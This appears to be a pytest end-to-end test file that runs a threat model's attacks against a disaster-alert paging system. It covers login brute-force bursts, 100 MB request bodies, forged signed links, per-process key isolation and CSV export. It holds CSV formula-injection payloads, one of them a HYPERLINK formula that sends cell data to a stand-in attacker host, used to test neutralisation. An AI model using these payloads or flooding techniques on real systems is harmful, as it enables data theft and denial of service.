"""The attacks of docs/threat-model.md, tried against the whole running system (`standby run`).

One system serves them all: a red quake pages the on-duty officer and alerts four member
organisations, so there are real answer links, a real roll-call to export and a real page to
acknowledge. Each test prints the figure the threat model quotes (`pytest -s`).
"""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import os
import re
import select
import socket
import subprocess
import sys
from collections.abc import Awaitable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest

from services.duty.states import Action
from services.duty.tokens import LinkSigner
from services.runtime.scenario import red_earthquake
from tests.e2e.system import (
    REPO,
    System,
    child_pid,
    fed_system,
    gdacs_feed,
    recipient,
    text_of,
    watched,
)
from tests.integration.duty.console_app import csrf_of
from tests.waiting import wait_for

pytestmark = pytest.mark.broker

PASSWORD = "standby-demo"  # the example rota, as development runs it
OLD_ACK = "yesterdays-acknowledge-key-0123456789abcdef"
NEW_ACK = "todays-acknowledge-key-0123456789abcdef0123"
HOSTILE_NOTES = {
    "alpha": '=HYPERLINK("http://evil.example/?"&A1,"details")',
    "beta": "+1+1",
    "gamma": "-2+3",
    "delta": "@SUM(A1:A9)",
}
MEMBERS = "organisations:\n" + "".join(
    f"""\
  - id: {org}
    name_ja: {org}（日本）
    name_en: {org.title()} Relief
    kind: ngo
    subscription: {{min_level: standby}}
    contacts:
      - {{id: desk, name: 担当 {org}, language: en, email: desk@{org}.example.org}}
"""
    for org in HOSTILE_NOTES
)


@pytest.fixture(scope="module")
def system(tmp_path_factory: pytest.TempPathFactory) -> Iterator[System]:
    tmp = tmp_path_factory.mktemp("attacks")
    quake = red_earthquake(9_700_222, datetime.now(UTC) - timedelta(minutes=5))
    with gdacs_feed([quake]) as feed:
        running = fed_system(
            tmp,
            MEMBERS,
            feed.url,
            # A rotated acknowledge key: today's signs, yesterday's still verifies.
            {"STANDBY_KEYS__ACKNOWLEDGE": NEW_ACK, "STANDBY_KEYS__ACKNOWLEDGE_PREVIOUS": OLD_ACK},
        )
        with watched(running):
            wait_for(
                lambda: all(_alert(running, org) for org in HOSTILE_NOTES) and _page(running),
                timeout=150,
                what="the member alerts and the duty page",
            )
            yield running


def _alert(system: System, org: str) -> str | None:
    for mail in system.mails():
        if recipient(mail) == f"desk@{org}.example.org":
            return text_of(mail)
    return None


def _page(system: System) -> str | None:
    """The acknowledge link of the duty page mail, once it is there."""
    for mail in system.mails():
        found = re.search(r"http://\S+/a/([A-Za-z0-9_.\-]+)", text_of(mail))
        if found and recipient(mail).endswith("@duty.example.org"):
            return found.group(1)
    return None


def console(system: System) -> str:
    return f"http://127.0.0.1:{system.console_port}"


def password_checks(system: System) -> float:
    text = httpx.get(f"http://127.0.0.1:{system.metrics_ports['duty']}/metrics").text
    found = re.search(r"^standby_console_password_checks_total (\S+)$", text, re.M)
    assert found, "the duty service exports no password-check count"
    return float(found.group(1))


def rss_kib(pid: int) -> int:
    status = Path(f"/proc/{pid}/status").read_text()
    found = re.search(r"^VmRSS:\s+(\d+) kB", status, re.M)
    assert found
    return int(found.group(1))


async def _login(client: httpx.AsyncClient, officer: str, password: str) -> int:
    form = await client.get("/login")
    answer = await client.post(
        "/login",
        data={"officer_id": officer, "password": password, "csrf": csrf_of(form.text)},
    )
    return answer.status_code


def test_a_parallel_login_burst_reaches_the_password_check_only_a_few_times(
    system: System,
) -> None:
    async def attack() -> tuple[list[int], int]:
        async with httpx.AsyncClient(base_url=console(system), timeout=60) as mine:
            assert await _login(mine, "morgan", PASSWORD) == 303  # morgan's known browser
            attackers = [httpx.AsyncClient(base_url=console(system), timeout=60) for _ in range(60)]
            try:
                forms = [await a.get("/login") for a in attackers]  # sessions and CSRF tokens

                async def guess(client: httpx.AsyncClient, form: httpx.Response) -> int:
                    answer = await client.post(
                        "/login",
                        data={
                            "officer_id": "morgan",
                            "password": "guess",
                            "csrf": csrf_of(form.text),
                        },
                    )
                    return answer.status_code

                burst = asyncio.gather(
                    *(guess(a, f) for a, f in zip(attackers, forms, strict=True))
                )
                await asyncio.sleep(0.05)
                own = _login(mine, "morgan", PASSWORD)  # the officer, during the burst
                statuses, during = await asyncio.gather(burst, own)
            finally:
                for client in attackers:
                    await client.aclose()
            return list(statuses), during

    before = password_checks(system)
    statuses, during = asyncio.run(attack())
    checked = password_checks(system) - before - 2  # less the officer's own two logins
    print(
        f"\nburst: 60 parallel wrong passwords -> {statuses.count(401)} x 401,"
        f" {statuses.count(429)} x 429; {checked:.0f} reached the password check;"
        f" the officer's known browser during the burst: {during}"
    )
    assert statuses.count(401) + statuses.count(429) == 60
    assert checked == statuses.count(401) <= 5  # the free tries of one officer at one source
    assert during == 303


def _send(port: int, head: bytes, body_bytes: int, *, chunked: bool) -> tuple[bytes, int]:
    """Send a request head and up to `body_bytes` of body, stopping as soon as the server
    answers; the status line and how many body bytes went out before it did."""
    piece = b"a" * 65536
    chunk = b"%x\r\n%s\r\n" % (len(piece), piece) if chunked else piece
    sent = 0
    with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
        sock.sendall(head)
        with contextlib.suppress(ConnectionError):
            while sent < body_bytes and not select.select([sock], [], [], 0)[0]:
                sock.sendall(chunk)
                sent += len(piece)
        answer = sock.recv(100)
    return answer.split(b"\r\n", 1)[0], sent


def test_a_100_mb_body_is_refused_while_it_streams_and_the_process_does_not_grow(
    system: System,
) -> None:
    duty = child_pid(system, "duty")
    response = child_pid(system, "response")
    assert duty and response
    hundred_mb = 100 * 1024 * 1024
    answer_path = b"/respond/00000000-0000-0000-0000-000000000000/alpha/not-a-token"
    declared = (
        b"POST " + answer_path + b" HTTP/1.1\r\nhost: x\r\n"
        b"content-type: application/x-www-form-urlencoded\r\ncontent-length: %d\r\n\r\n"
        % hundred_mb
    )
    chunked_head = (
        b"POST " + answer_path + b" HTTP/1.1\r\nhost: x\r\n"
        b"content-type: application/x-www-form-urlencoded\r\ntransfer-encoding: chunked\r\n\r\n"
    )
    preferences_head = chunked_head.replace(answer_path, b"/m")
    response_port = int(system.env["STANDBY_RESPONSE__WEB_PORT"])

    async def attack() -> list[tuple[bytes, int]]:
        def send(port: int, head: bytes, chunked: bool) -> Awaitable[tuple[bytes, int]]:
            return asyncio.to_thread(_send, port, head, hundred_mb, chunked=chunked)

        return list(
            await asyncio.gather(
                send(system.console_port, declared, False),
                *(send(system.console_port, chunked_head, True) for _ in range(4)),
                send(response_port, chunked_head, True),
                send(system.preferences_port, preferences_head, True),
            )
        )

    # One refusal first: what the first one costs once (code paths, buffers) is not growth.
    assert _send(system.console_port, chunked_head, 4 * 2**20, chunked=True)[0].endswith(b"Large")
    assert _send(response_port, chunked_head, 4 * 2**20, chunked=True)[0]
    before = {duty: rss_kib(duty), response: rss_kib(response)}
    answers = asyncio.run(attack())
    grown = {pid: rss_kib(pid) - kib for pid, kib in before.items()}
    print(
        f"\n100 MB bodies: {[a[0].decode() for a in answers]};"
        f" body sent before the refusal (MiB): {[round(a[1] / 2**20, 1) for a in answers]};"
        f" RSS growth duty {grown[duty] / 1024:.1f} MiB, response {grown[response] / 1024:.1f} MiB"
    )
    statuses = [status.split(b" ")[1] for status, _ in answers]
    # Every page that reads the body refuses it at the limit; the response service's own port
    # refuses the made-up link before reading a byte of it.
    assert statuses[:5] == [b"413"] * 5 and statuses[6] == b"413"
    assert statuses[5] in (b"403", b"404", b"413")
    assert all(sent < hundred_mb for _, sent in answers)
    assert grown[duty] <= 5 * 1024 and grown[response] <= 5 * 1024


def test_the_export_neutralises_every_hostile_cell_and_opens_as_utf8(system: System) -> None:
    links = {}
    for org, note in HOSTILE_NOTES.items():
        text = _alert(system, org)
        assert text
        found = re.search(r"(http://\S+/respond/\S+)\?answer=", text)
        assert found, text
        links[org] = found.group(1)

        def answered(url: str = found.group(1), note: str = note) -> bool:
            posted = httpx.post(url, data={"answer": "can_deploy", "note": note})
            return posted.status_code in (200, 303)

        wait_for(answered, timeout=60, what=f"{org}'s answer to be taken", every=1)
    incident = links["alpha"].split("/respond/")[1].split("/")[0]

    async def export() -> httpx.Response:
        async with httpx.AsyncClient(base_url=console(system), timeout=30) as officer:
            assert await _login(officer, "aoki", PASSWORD) == 303
            # Answers sent before the response service has read the activation are held
            # until its roll-call opens: until then there is no roll-call to export (404).
            async with asyncio.timeout(60):
                while (
                    got := await officer.get(f"/rollcall/{incident}/export.csv")
                ).status_code == 404:
                    await asyncio.sleep(0.5)
            return got

    exported = asyncio.run(export())
    assert exported.status_code == 200
    assert exported.content.startswith(b"\xef\xbb\xbf")
    rows = {
        r["organisation_id"]: r
        for r in csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig")))
    }
    notes = {org: rows[org]["note"] for org in HOSTILE_NOTES}
    print(f"\nhostile export: BOM present, notes as written: {notes}")
    assert rows["alpha"]["organisation_ja"] == "alpha（日本）"  # UTF-8 read back whole
    assert notes == {org: "'" + note for org, note in HOSTILE_NOTES.items()}


def test_yesterdays_acknowledge_link_still_works_after_a_rotation_and_a_forged_one_does_not(
    system: System,
) -> None:
    page_token = _page(system)
    assert page_token
    grant = LinkSigner([OLD_ACK, NEW_ACK], timedelta(hours=24)).read(page_token)
    issued = datetime.now(UTC) - timedelta(hours=1)
    yesterdays = LinkSigner(OLD_ACK, timedelta(hours=24)).issue(
        grant.activation_id, grant.officer_id, Action.ACKNOWLEDGE, issued
    )
    forged = LinkSigner("a-key-nobody-was-given-0123456789abcdef", timedelta(hours=24)).issue(
        grant.activation_id, grant.officer_id, Action.ACKNOWLEDGE, issued
    )
    old = httpx.get(f"{console(system)}/a/{yesterdays}")
    refused = httpx.get(f"{console(system)}/a/{forged}")
    print(
        f"\nrotation: link signed with the retired key -> {old.status_code}, forged -> "
        f"{refused.status_code}"
    )
    assert old.status_code == 200 and 'name="csrf"' in old.text  # the confirm page
    assert refused.status_code == 403 and 'data-reason="forged"' in refused.text


def test_each_service_process_holds_only_its_own_keys(system: System) -> None:
    held = {}
    for service in ("ingester", "triage", "notifier", "duty", "response"):
        pid = child_pid(system, service)
        assert pid, service
        environ = Path(f"/proc/{pid}/environ").read_bytes().split(b"\0")
        held[service] = sorted(
            v.split(b"=", 1)[0].decode()
            for v in environ
            if v.startswith((b"STANDBY_KEYS__", b"STANDBY_DUTY__SIGNING_KEY="))
        )
    print(f"\nkeys per process: {held}")
    assert held["ingester"] == held["triage"] == []
    assert held["duty"] == [
        "STANDBY_KEYS__ACKNOWLEDGE",
        "STANDBY_KEYS__ACKNOWLEDGE_PREVIOUS",
        "STANDBY_KEYS__ERASURE",
        "STANDBY_KEYS__OFFICER_IDENTITY",
    ]
    assert held["notifier"] == [
        "STANDBY_KEYS__ANSWER",
        "STANDBY_KEYS__ERASURE",
        "STANDBY_KEYS__PREFERENCE",
    ]


def test_production_refuses_to_start_on_the_example_rota_and_names_file_and_line(
    tmp_path: Path,
) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("STANDBY_")} | {
        "STANDBY_ENVIRONMENT": "production",
        "STANDBY_VAR_DIR": str(tmp_path),
        "STANDBY_KEYS__ACKNOWLEDGE": "a" * 40,
        "STANDBY_KEYS__OFFICER_IDENTITY": "b" * 40,
        "STANDBY_KEYS__ERASURE": "c" * 40,
        "STANDBY_KAFKA__BOOTSTRAP_SERVERS": "127.0.0.1:1",  # never reached
    }
    started = datetime.now(UTC)
    run = subprocess.run(
        [sys.executable, "-m", "services", "duty"],
        cwd=REPO,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    took = (datetime.now(UTC) - started).total_seconds()
    rota = "deploy/rota.example.yaml"
    hash_lines = [
        n
        for n, line in enumerate((REPO / rota).read_text().splitlines(), 1)
        if "password_hash" in line
    ]
    print(
        f"\nproduction on the example rota: exit {run.returncode} after {took:.1f} s:\n"
        f"{run.stderr.strip()[-1200:]}"
    )
    assert run.returncode == 2
    assert f"{rota}: the example rota file" in run.stderr
    for line in hash_lines:
        assert f"{rota}:{line}: this password_hash verifies a published demo password" in run.stderr
